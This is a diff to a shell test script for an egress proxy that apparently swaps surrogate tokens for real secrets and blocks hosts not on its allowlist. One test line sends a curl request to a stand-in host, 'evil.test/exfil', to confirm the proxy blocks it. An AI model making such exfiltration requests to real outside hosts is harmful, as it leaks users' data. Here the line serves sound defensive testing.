@@ -182,7 +182,7 @@ t_start_nginx "
         ssl_certificate $T_DIR/up.pem; ssl_certificate_key $T_DIR/up.key;
         access_log $T_DIR/nginx/gw.log;
         root $T_DIR/www;
-        location /auth { return 200 \"auth=\$http_authorization\\n\"; }
+        location /auth { if (\$http_authorization = \"Bearer real-secret-1\") { return 200 \"auth=real\\n\"; } return 200 \"auth=\$http_authorization\\n\"; }
 " || exit 1
 
 # ---- does `podman kube play` handle init containers yet? ----------------------------------------
@@ -275,7 +275,7 @@ t_eq "allowed plain HTTP" "hello from upstream
  200" "$out"
 out=$(ax curl -s -m 10 -H 'Authorization: Bearer surrogate-token-1' https://nginx.test/auth)
 t_eq "the replacements Secret reaches airlock (the upstream gets the real secret)" \
-    "auth=Bearer real-secret-1" "$out"
+    "auth=real" "$out"
 out=$(ax curl -s -m 10 -w ' %{http_code}' 'https://evil.test/exfil?k=v')
 t_contains "blocked host gets the 403 JSON" "$out" \
     '"error": "blocked_by_network_allowlist", "host": "evil.test", "path": "/exfil?k=v"'
